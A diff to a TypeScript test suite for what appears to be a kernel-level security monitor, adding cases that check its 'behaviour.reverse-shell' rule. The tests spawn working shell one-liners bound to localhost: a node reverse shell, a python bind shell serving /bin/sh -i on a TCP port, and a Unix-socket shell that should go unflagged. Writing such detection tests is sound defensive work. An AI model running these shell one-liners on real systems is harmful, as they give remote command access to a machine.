@@ -4,13 +4,14 @@
  */
 import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
+import { connect, createServer, type AddressInfo, type Server, type Socket } from 'node:net';
 import { createServer as createTlsServer } from 'node:tls';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { lacks } from '../need.ts';
+import { freePort } from '../port.ts';
 import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';
 import type { AlertLine } from '../live/moat.ts';
 
@@ -68,6 +69,17 @@ const attacks: Attack[] = [
   { name: 'node, the shell first', file: process.execPath, args: (port) => ['-e', `const s=require("child_process").spawn("/bin/sh",[]);const c=require("net").connect(${port},"127.0.0.1",()=>{c.pipe(s.stdin);s.stdout.pipe(c)});s.on("exit",()=>c.destroy())`] },
 ];
 
+/** Once somebody listens there. */
+async function callUp(port: number): Promise<Socket> {
+  for (let left = 100; ; left--) {
+    const socket = connect(port, '127.0.0.1');
+    const failed = await new Promise<Error | undefined>((resolve) => { socket.once('connect', () => { resolve(undefined); }); socket.once('error', resolve); });
+    if (failed === undefined) return socket;
+    if (left === 0) throw failed;
+    await sleep(50);
+  }
+}
+
 const end = async (child: ChildProcess): Promise<void> => {
   if (child.exitCode !== null || child.signalCode !== null || child.pid === undefined) return;
   const gone = new Promise((resolve) => { child.once('exit', resolve); });
@@ -106,6 +118,38 @@ describe.skipIf(await lacksKernel())('reverse shells that work', () => {
       await end(child);
       far.close();
     }
+  });
+
+  it('a shell bound to a port of this machine, opened from outside', async () => {
+    const bound = await freePort();
+    const server = spawn(python, ['-c', `import socket,subprocess;l=socket.create_server(("127.0.0.1",${bound}));c,_=l.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)`], { stdio: 'ignore', detached: true });
+    try {
+      const client = await callUp(bound);
+      let said = '';
+      client.on('data', (chunk) => { said += chunk.toString(); });
+      client.write('echo moat-$((6 * 7))\n');
+      const alert = await watch.waitFor((one) => one.rule_id === 'behaviour.reverse-shell' && summary(one).includes('/bin/sh -i') && JSON.stringify(one).includes(String(server.pid)), 'of the bound shell');
+      expect(alert.level).toBe('critical');
+      await expect.poll(() => said).toContain('moat-42');
+      client.destroy();
+    } finally { await end(server); }
+  });
+
+  it('a shell behind a socket between processes is no remote one', async () => {
+    const path = join(folder, 'activated.sock');
+    const before = watch.alerts.length;
+    const server = spawn(python, ['-c', `import socket,subprocess;l=socket.socket(socket.AF_UNIX);l.bind("${path}");l.listen();c,_=l.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)`], { stdio: 'ignore', detached: true });
+    try {
+      await expect.poll(() => existsSync(path)).toBe(true);
+      const client = connect(path);
+      let said = '';
+      client.on('data', (chunk) => { said += chunk.toString(); });
+      client.write('echo moat-$((6 * 7)); /bin/ls / ; exit\n');
+      await expect.poll(() => said).toContain('moat-42');
+      await sleep(500);
+      expect(watch.alerts.slice(before).filter((one) => one.rule_id === 'behaviour.reverse-shell' && JSON.stringify(one).includes(String(server.pid))).map(summary)).toEqual([]);
+      client.destroy();
+    } finally { await end(server); }
   });
 
   it('ordinary shells with connections beside them are not told', async () => {
